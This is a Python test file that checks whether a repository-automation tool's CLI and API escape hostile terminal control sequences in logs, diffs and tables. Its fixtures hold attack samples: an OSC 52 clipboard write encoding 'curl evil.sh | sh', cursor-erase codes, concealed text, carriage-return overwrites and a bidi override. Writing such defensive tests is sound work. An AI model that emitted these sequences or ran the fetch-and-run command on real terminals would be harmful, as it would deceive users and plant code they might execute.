"""Attack: a repository's content or a campaign's step writes terminal escape sequences
(OSC 52 clipboard writes, cursor movement, concealed text, a lone carriage return, bidi
overrides) into its output and into the files it changes. `shoal runs logs` and `shoal diff`
show them escaped, and so do the API's log and patch views unless `raw=1` asks for the exact
bytes (as a download). A real worker runs the hostile step in the sandbox."""

# ruff: noqa: F811 (the end-to-end fixtures are imported, then named as test arguments)
from __future__ import annotations

import sys
import unicodedata
from collections.abc import Callable
from typing import Any

import pytest
import structlog
from typer.testing import CliRunner

from shoal.cli.main import app
from shoal.cli.output import print_table
from shoal.domain.auth import Role
from shoal.domain.printable import escape_bytes, escape_chunks, escape_text
from tests.e2e.conftest import (  # noqa: F401 (fixtures the end-to-end stack is built from)
    Stack,
    app_keys,
    make_sim,
    make_stack,
    octokit_schemas,
    work_dir,
)

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: set the clipboard
CURSOR_UP = "\x1b[2A\x1b[2K"  # move up two lines and erase one
CONCEALED = "\x1b[8mhidden\x1b[0m"
OVERWRITE = "all good\rFAILED"  # a lone CR: the terminal shows "FAILED" over "all good"
BIDI = "\u202eexe.txt"
HOSTILE = [CLIPBOARD, CURSOR_UP, CONCEALED, OVERWRITE, BIDI]
RAW_BYTES = [b"\x1b]52;", b"\x1b[2A", b"\x1b[8m", b"good\rFAILED", "\u202e".encode()]
SHOWN = ["\\x1b]52;c;", "\\x1b[2A", "\\x1b[8mhidden", "all good\\x0dFAILED", "\\u202eexe.txt"]

WORLD: dict[str, Any] = {
    "orgs": [{"login": "acme", "repos": [{"name": "api", "files": {"README.md": "# api\n"}}]}],
    "apps": [
        {
            "slug": "shoal",
            "permissions": {"contents": "write", "metadata": "read", "pull_requests": "write"},
            "installations": [{"org": "acme"}],
        }
    ],
}

SPEC = r"""
name: escapes
on:
  - repos: [acme/api]
steps:
  - name: hostile
    run: |
      bad='\033]52;c;Y3VybCBldmlsLnNoIHwgc2g=\007\n\033[2A\033[2K\n\033[8mhidden\033[0m\n'
      bad="$bad"'all good\rFAILED\n\342\200\256exe.txt\n'
      printf "before\n${bad}after\n"
      printf "line one\n${bad}windows line\r\n" >> README.md
changeset:
  title: escapes
"""


@pytest.fixture
def previewed(make_stack: Callable[..., Stack]) -> tuple[Stack, int]:
    stack = make_stack(WORLD)
    run = stack.preview(SPEC)
    assert run["state"] == "done", run
    assert stack.executions(run["id"])["acme/api"]["state"] == "patch"
    return stack, int(run["id"])


def _cli(stack: Stack, tmp_config: str, *args: str) -> Any:
    env = {
        "XDG_CONFIG_HOME": tmp_config,
        "SHOAL_URL": stack.api.url,
        "SHOAL_TOKEN": stack.api.tokens[Role.VIEWER],
    }
    with structlog.testing.capture_logs():
        return CliRunner().invoke(app, list(args), env=env, catch_exceptions=False)


def _assert_escaped(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "\r" not in text.replace("\r\n", "")
    for shown in SHOWN:
        assert shown in text, shown


def test_runs_logs_and_diff_print_control_characters_escaped(
    previewed: tuple[Stack, int], tmp_path: Any
) -> None:
    stack, run_id = previewed
    logs = _cli(stack, str(tmp_path), "runs", "logs", str(run_id), "acme/api")
    diff = _cli(stack, str(tmp_path), "diff", "escapes", "acme/api", "--run", str(run_id))
    assert logs.exit_code == 0, logs.output
    assert diff.exit_code == 0, diff.output
    _assert_escaped(logs.stdout)
    _assert_escaped(diff.stdout)
    assert "before" in logs.stdout and "after" in logs.stdout
    assert "+windows line" in diff.stdout


def test_diff_raw_gives_the_exact_bytes_to_a_file(
    previewed: tuple[Stack, int], tmp_path: Any
) -> None:
    stack, run_id = previewed
    raw = _cli(stack, str(tmp_path), "diff", "escapes", "acme/api", "--run", str(run_id), "--raw")
    assert raw.exit_code == 0, raw.output
    for exact in RAW_BYTES:
        assert exact in raw.stdout_bytes


def test_the_api_escapes_logs_and_patches_unless_raw(previewed: tuple[Stack, int]) -> None:
    stack, run_id = previewed
    base = f"/runs/{run_id}/executions/acme/api"
    with stack.api.client(Role.VIEWER) as http:
        log, patch = http.get(f"{base}/log"), http.get(f"{base}/patch")
        raw_patch = http.get(f"{base}/patch", params={"raw": 1})
    for response in (log, patch):
        assert response.status_code == 200
        assert response.headers["content-type"] == "text/plain; charset=utf-8"
        assert response.headers["x-content-type-options"] == "nosniff"
        _assert_escaped(response.text)
    assert raw_patch.headers["content-type"] == "application/octet-stream"
    assert raw_patch.headers["content-disposition"].startswith("attachment;")
    assert raw_patch.headers["x-content-type-options"] == "nosniff"
    for exact in RAW_BYTES:
        assert exact in raw_patch.content


def test_table_cells_and_errors_are_escaped_too(capsys: pytest.CaptureFixture[str]) -> None:
    # Any server text in any table (repo names, messages, reasons) goes through the console.
    print_table(None, ["REPO", "MESSAGE"], [["acme/api", CLIPBOARD + OVERWRITE + BIDI]])
    out = capsys.readouterr().out
    assert "\x1b]52" not in out and "\u202e" not in out
    assert "\\x1b]52;c;" in out and "\\u202e" in out


def test_every_control_and_format_character_is_escaped() -> None:
    for code in range(sys.maxunicode + 1):
        char = chr(code)
        if 0xD800 <= code <= 0xDFFF or char in "\n\t":
            continue
        if unicodedata.category(char) in {"Cc", "Cf", "Zl", "Zp"}:
            assert escape_text(char) != char, hex(code)
    plain = "naïve café — 日本語 ✓ \\x1b stays\tas\nis\r\n"
    assert escape_text(plain) == plain


def test_streamed_escaping_matches_whole_escaping() -> None:
    data = ("a\r\nb\rc\u202ed" + CLIPBOARD).encode() + b"\xff"
    whole = escape_bytes(data)
    for size in range(1, 6):
        chunks = [data[i : i + size] for i in range(0, len(data), size)]
        assert b"".join(escape_chunks(chunks)).decode() == whole
    assert whole.endswith("\\xff")
